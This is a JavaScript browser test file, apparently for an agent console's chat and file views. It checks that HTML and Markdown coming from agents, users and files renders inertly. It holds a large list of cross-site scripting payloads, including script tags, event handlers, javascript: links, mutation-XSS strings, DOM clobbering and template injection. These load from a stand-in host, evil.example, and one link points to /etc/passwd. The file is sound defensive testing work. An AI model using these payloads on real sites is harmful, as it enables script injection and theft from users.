// What agents, people and files can say to do harm: none of it runs, loads something or breaks the page, and all of it can be read.

import assert from 'node:assert/strict'
import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { before, test } from 'node:test'

import { Scene } from '../js/lib/scene.mjs'
import { script } from '../js/lib/server.mjs'
import { Desk, counted, holds } from './lib/page.mjs'
import { acp, conversation, room } from './lib/room.mjs'

let scene
before(async () => (scene = await Scene.open()))

const EVIL = 'window.pwned = true'
const FAR = 'https://evil.example'

/** Each sets `window.pwned`, asks elsewhere for something, or changes what is around it, if it is taken for what it looks like. */
const TRICKS = [
  `<script>${EVIL}</script>`,
  `<img src=x onerror="${EVIL}">`,
  `<img src="${FAR}/a.png" srcset="${FAR}/b.png 2x">`,
  `<svg onload="${EVIL}"><image href="${FAR}/c.svg"/><script>${EVIL}</script></svg>`,
  `<svg><foreignObject><body onload="${EVIL}"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${EVIL}&gt;">`,
  `<iframe src="${FAR}/frame"></iframe><iframe srcdoc="<script>parent.${EVIL}</script>"></iframe>`,
  `<style>body { display: none } @import url(${FAR}/d.css); :root { background: url(${FAR}/e.png) }</style>`,
  `<link rel="stylesheet" href="${FAR}/f.css"><link rel="prefetch" href="${FAR}/g">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}"><base href="${FAR}/">`,
  `<form action="${FAR}"><input name=token autofocus onfocus="${EVIL}"><button>Log in</button></form>`,
  `<details open ontoggle="${EVIL}"><video autoplay src="${FAR}/h.mp4" onerror="${EVIL}"><object data="${FAR}/i"><embed src="${FAR}/j">`,
  `<template><script>${EVIL}</script></template><noscript><p title="</noscript><img src=x onerror=${EVIL}>">`,
  `<form id=__proto__><input name=attributes><img name=querySelector><a id=app href=javascript:${EVIL}>`,
  `[a](javascript:${EVIL}) [b](JaVaScRiPt&colon;${EVIL}) [c](<java\tscript:${EVIL}>) [d](&#106;avascript:${EVIL})`,
  `[e](data:text/html,<script>${EVIL}</script>) [f](vbscript:x) [g](file:///etc/passwd) [h](blob:${FAR}/1) [i](//evil.example/x)`,
  `![j](${FAR}/k.png) ![k](data:image/svg+xml,<svg onload="${EVIL}"/>) ![l](javascript:${EVIL})`,
  `<javascript:${EVIL}> <${FAR}/"onmouseover="${EVIL}>`,
  `[m]: javascript:${EVIL} "t"\n[m] [n](${FAR}/" onmouseover="${EVIL} "x\\" onclick=\\"${EVIL}")`,
  `\`\`\`"><script>${EVIL}</script>\n<b onclick="${EVIL}">code</b>\n\`\`\``,
  `\`\`\`html" onmouseover="${EVIL}\n<script>${EVIL}</script>\n\`\`\``,
  `| <img src=x onerror="${EVIL}"> | b |\n|---|:-:|\n| <script>${EVIL}</script> | [x](javascript:${EVIL}) |`,
  `**<b style="position:fixed;inset:0">_~~[[[<a href="javascript:${EVIL}">x</a>](javascript:${EVIL})~~_**`,
  `\u001b[2J\u001b[31mred\u001b[0m\u001b]8;;${FAR}\u0007link\u001b]8;;\u0007\u001b]0;title\u0007\u0000\u0008\u009b1m`,
  'from \u202egnp.exe\u202c, \u2066isolated\u2069, \u200e\u200f\u061c, \u202a\u202b\u202d',
  `{{constructor.constructor("${EVIL}")()}} \${${EVIL}} <%= ${EVIL} %>`,
]

/** Nothing of it has been run, and nothing of it is a part of the page. */
async function assertHarmless(desk) {
  const found = await desk.page.evaluate(() => {
    const all = (selector) => [...document.querySelectorAll(selector)]
    const log = document.querySelector('[role=log]')?.innerText ?? ''
    const ours = /^(https?:|mailto:|\/(?!\/))/
    return {
      pwned: window.pwned,
      // Icons of the console are SVG without scripts; its scripts and styles are in the head.
      elements: all('body script, body style, body link, iframe, object, embed, video, audio, base, meta[http-equiv=refresh], template, math, foreignObject').map((e) => e.outerHTML),
      pictures: all('img').filter((e) => !e.src.startsWith(`${location.origin}/`) && !e.src.startsWith('blob:')).map((e) => e.outerHTML),
      handlers: all('*').flatMap((e) => e.getAttributeNames().filter((name) => name.startsWith('on')).map((name) => `${e.tagName} ${name}`)),
      links: all('a').map((e) => e.getAttribute('href') ?? '').filter((href) => !ours.test(href)),
      open: all('.markdown a').filter((e) => e.target !== '_blank' || !/noopener/.test(e.rel)).map((e) => e.outerHTML),
      controls: /[\u0000-\u0008\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(log),
      shown: getComputedStyle(document.body).display,
    }
  })
  assert.deepEqual(found, { pwned: undefined, elements: [], pictures: [], handlers: [], links: [], open: [], controls: false, shown: 'block' })
  desk.assertQuiet()
}

/** The page is not wider than its window. */
async function assertFits({ page }) {
  const [wide, window] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth])
  assert.ok(wide <= window, `${wide} > ${window}`)
}

test('Markdown and HTML that want to run: shown, and nothing happens', async (t) => {
  const place = await room(scene, acp())
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)

  for (const trick of TRICKS) await place.v.chat(place.agentId, `say ${trick}\n\nthe end`, { conversationId: place.conversationId })
  await desk.answered('constructor.constructor').waitFor()
  await counted(desk.page.locator('.waiting'), 0)
  // All the way up: each of them is drawn once.
  await desk.log.hover()
  await holds(async () => {
    await desk.page.mouse.wheel(0, -400)
    assert.ok(await desk.said(`say ${TRICKS[0]}\n\nthe end`).isVisible())
  })
  await assertHarmless(desk)
  await assertFits(desk)

  // One message with all of them, streamed, and after a reload from the log.
  await desk.say(`say ${TRICKS.join('\n\n')}\n\nat last`)
  await desk.answered('at last').waitFor()
  await assertHarmless(desk)
  await desk.page.reload()
  await desk.ready()
  await desk.answered('at last').waitFor()
  await assertHarmless(desk)

  // It is readable: the tags are there as text.
  const text = await desk.answered('at last').innerText()
  for (const part of ['<script>', 'onerror=', '<iframe', '<style>', 'red', '⟦U+202E⟧gnp.exe']) assert.ok(text.includes(part), part)
  assert.doesNotMatch(text, /\[31m/)
})

test('a link of somebody else opens apart, without saying where from', async (t) => {
  const place = await room(scene, {})
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)
  await desk.say(`see ${FAR}/page?x=1&y="2" and [here](${FAR}/two)`)

  const links = desk.log.locator('.markdown a')
  await counted(links, 2)
  for (const link of await links.all()) {
    assert.deepEqual([await link.getAttribute('target'), await link.getAttribute('rel')], ['_blank', 'noopener noreferrer nofollow'])
  }
  await assertHarmless(desk)
})

test('names with HTML, colours and turned text', async (t) => {
  const name = `<img src=x onerror="${EVIL}"><b>${'n'.repeat(20)}</b> \u202etxt`
  const place = await room(scene, { name }, `<script>${EVIL}</script> "' & </bdi></title> \u202eg`)
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)
  const { page } = desk
  await desk.sidebar.getByRole('link', { name: '<script>' }).waitFor()

  await desk.say('/ask <b>one</b> <img/src=x/onerror=window.pwned=1>')
  await page.getByRole('button', { name: '<b>one</b>' }).waitFor()
  await holds(() => assertNamesHarmless(desk))
  await page.getByRole('button', { name: '<img/src=x' }).click()
  await desk.answered('<img/src=x/onerror=window.pwned=1>').waitFor()
  await page.keyboard.press('Control+k')
  await page.getByRole('combobox').fill('<script>')
  await page.getByRole('option').filter({ hasText: '<script>' }).first().waitFor()
  await assertNamesHarmless(desk)
  await page.keyboard.press('Escape')
  await desk.sidebar.getByRole('searchbox').fill('<script>')
  await desk.sidebar.getByRole('link', { name: /img src=x.*<script>/ }).waitFor()
  await assertNamesHarmless(desk)
  for (const tab of ['settings', 'files', 'stats', 'terminal']) {
    await page.goto(`${desk.origin}/a/${scene.clientId}/${place.agentId}/${tab}`)
    await page.getByRole('main').getByText('<img src=x onerror=').first().waitFor()
    await assertNamesHarmless(desk)
    await assertFits(desk)
  }
})

/** Names are isolated, so what turns text ends with them. */
async function assertNamesHarmless(desk) {
  assert.equal(await desk.page.evaluate(() => window.pwned), undefined)
  const loose = await desk.page.evaluate(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    const found = []
    while (walker.nextNode()) {
      const { data, parentElement } = walker.currentNode
      if (/[\u202a-\u202e\u2066-\u2069]/.test(data) && !parentElement.closest('bdi') && parentElement.checkVisibility()) found.push(`${parentElement.outerHTML}`)
    }
    return found
  })
  assert.deepEqual(loose, [])
  assert.equal(await desk.page.locator('body script, bdi *').count(), 0)
  desk.assertQuiet()
}

test('files with HTML in their names and in themselves', async (t) => {
  const agentId = await scene.agent(script(`files-${process.pid}`, 'cat'))
  const directory = path.join(scene.server.dataDir, 'agents', agentId)
  mkdirSync(directory, { recursive: true })
  const name = `<img src=x onerror="${EVIL}">.html`
  writeFileSync(path.join(directory, name), TRICKS.join('\n'))
  writeFileSync(path.join(directory, 'picture.svg'), `<svg xmlns="http://www.w3.org/2000/svg" onload="${EVIL}"><script>${EVIL}</script><image href="${FAR}/x.png"/></svg>`)
  writeFileSync(path.join(directory, 'page.html'), `<script>${EVIL}</script>`)
  // Two that look the same, as neither is valid text.
  for (const byte of ['\xfe', '\xff']) writeFileSync(Buffer.from(`${directory}/odd${byte}`, 'latin1'), '')
  const desk = await Desk.open(t, scene.server, { path: `/a/${scene.clientId}/${agentId}/files` })
  const { page } = desk
  await counted(page.locator('.file', { hasText: 'odd\ufffd' }), 2)

  for (const [file, content] of [[name, 'onerror='], ['picture.svg', '<svg'], ['page.html', '<script>']]) {
    await page.locator('.file', { hasText: file }).click()
    await page.locator('.source', { hasText: content }).waitFor()
    await assertHarmless(desk)
  }
})

test('events of odd shapes are shown, or left out, and the page goes on', async (t) => {
  const place = await room(scene, {})
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)
  const deep = `${'['.repeat(60)}1${']'.repeat(60)}`
  const odd = [
    '/event <b>topic</b> {"a":"<script>window.pwned=1</script>"}',
    '/event __proto__ {"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}',
    `/event deep ${deep}`,
    '/event null null',
    '/event text "\u001b[31m<img src=x onerror=window.pwned=1>"',
    '/note {"kind":"plan","payload":{"steps":[]}}',
    '/note {"kind":"plan","payload":{"steps":[{"content":"<script>window.pwned=1</script>","status":"pending"}]}}',
    '/note {"kind":"plan","payload":{"steps":5}}',
    '/note {"kind":"plan","payload":null}',
    '/note {"kind":"toolCall","payload":{"toolCallId":"x","name":"<img src=x onerror=window.pwned=1>","input":{"command":7}}}',
    '/note {"kind":"toolCall","payload":{"toolCallId":5,"name":[]}}',
    '/note {"kind":"toolResult","payload":{"toolCallId":"nobody","output":"<script>","isError":"yes"}}',
    '/note {"kind":"usage","payload":{"inputTokens":-1,"outputTokens":"many","costUsd":1e308}}',
    '/note {"kind":"thinking","payload":{"text":"<script>window.pwned=1</script>"}}',
    '/note {"kind":"thinking","payload":{}}',
    '/note {"kind":"rawOutput","payload":{"stream":"stderr","text":"\\u001b[2J<b>"}}',
    '/note {"kind":"status","payload":{"message":"<img src=x onerror=window.pwned=1>"}}',
    '/note {"kind":"hasOwnProperty","payload":{"toString":1}}',
    '/note {"kind":"","payload":[]}',
    '/note 5',
    '/note [',
    '/tool',
  ]

  for (const text of odd) await place.v.chat(place.agentId, text, { conversationId: place.conversationId })
  await desk.say('still here')
  await desk.answered('still here').waitFor()
  for (const fold of await desk.log.locator('details > summary').all()) await fold.click()
  assert.equal(await desk.page.evaluate(() => window.pwned ?? {}.pwned), undefined)
  await assertHarmless(desk)
  await desk.page.reload()
  await desk.ready()
  await desk.answered('still here').waitFor()
  await assertHarmless(desk)
})

test('a program that asks oddly', async (t) => {
  const asks = [
    { kind: 'form', message: '<b>who</b> \u202e', fields: ['<b>name</b>', 'name', 'name', '__proto__', 'constructor'] },
    { kind: 'question', message: 'x'.repeat(16_000), choices: ['same', 'same', `${'long '.repeat(150)}`, '<script>window.pwned=1</script>'] },
  ].map((ask) => ({ type: 'ask', timeoutMs: 60_000, ...ask }))
  const spec = script(`odd-${process.pid}`, `read x; ${asks.map((ask) => `cat <<'END'\n${JSON.stringify(ask)}\nEND\nread answer; echo "got $answer"`).join('\n')}\necho over; read x`)
  const place = await room(scene, spec)
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)
  const open = desk.log.getByRole('region').filter({ hasText: 'Needs you' })

  await desk.say('go')
  await open.getByText('<b>who</b>').waitFor()
  await assertHarmless(desk)
  await open.getByRole('textbox').first().fill('"><script>window.pwned=1</script>')
  await open.getByRole('button', { name: 'Answer', exact: true }).click()
  await open.getByText('xxxxx').waitFor()
  await assertFits(desk)
  await open.getByRole('button', { name: '<script>' }).click()
  await desk.answered('over').waitFor()
  await assertHarmless(desk)
})

test('texts that are long, deep or costly to read', async (t) => {
  const place = await room(scene, {})
  const desk = await Desk.open(t, scene.server)
  await desk.visit(...place.at)
  const texts = {
    'one line': 'x'.repeat((1 << 20) - 20),
    'quotes': `${'> '.repeat(200)}deep`,
    'lists': `${'- '.repeat(200)}deep`,
    'brackets': '['.repeat(20_000),
    'stars': '*a **b '.repeat(3_000),
    'backticks': Array.from({ length: 190 }, (_, n) => '`'.repeat(n)).join(' '),
    'links': '[a]('.repeat(5_000),
    'less than': '<'.repeat(20_000),
    'tables': `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n`,
    'underscores': '_'.repeat(20_000),
    'marks': `e${'\u0301'.repeat(5_000)}`,
  }

  for (const [what, text] of Object.entries(texts)) {
    const one = await conversation(place.v, place.agentId, what)
    const message = { from: 'agent', text: `${text}\n\nafter it` }
    await place.v.forward('insertHistory', one.agentId, { agentId: one.agentId, conversationId: one.conversationId, messages: [{ from: 'user', text: what }, message] })
    await desk.sidebar.getByRole('link', { name: what, exact: true }).click()
    await desk.page.getByRole('heading', { name: what }).waitFor()
    await counted(desk.log.locator('article.agent'), 1)
    const all = desk.log.getByRole('button', { name: /^Show all/ })
    if (message.text.length > 20_000) {
      await all.click()
      await counted(all, 0)
    }
    await desk.answered('after it').waitFor()
    await assertFits(desk)
  }
  await assertHarmless(desk)
})

/** The longest that the page has not drawn, ms, from now on; of old on demand. */
const watchFrames = (page) =>
  page.evaluate(() => {
    let last = performance.now()
    window.longest = 0
    const frame = (now) => {
      window.longest = Math.max(window.longest, now - last)
      last = now
      requestAnimationFrame(frame)
    }
    requestAnimationFrame(frame)
  })

for (const [what, spec, message, last] of [
  ['10,000 pieces of an answer', () => acp(), 'flood 10000', '98 99'],
  ['10,000 answers', () => ({}), '/lines 10000', '10000 lines'],
]) {
  test(`a flood: ${what}`, async (t) => {
    const place = await room(scene, spec())
    const desk = await Desk.open(t, scene.server)
    await desk.visit(...place.at)
    await watchFrames(desk.page)

    await desk.say(message)
    await desk.composer.fill('meanwhile')
    await desk.answered(last).waitFor()
    await counted(desk.page.getByRole('button', { name: 'Stop', exact: true }), 0)

    const longest = await desk.page.evaluate(() => window.longest)
    t.diagnostic(`longest time without a frame: ${Math.round(longest)} ms`)
    assert.ok(longest < 2_000, `${longest}`)
    assert.ok((await desk.page.locator('*').count()) < 6_000)
    await desk.composer.press('Enter')
    await desk.said('meanwhile').waitFor()
  })
}
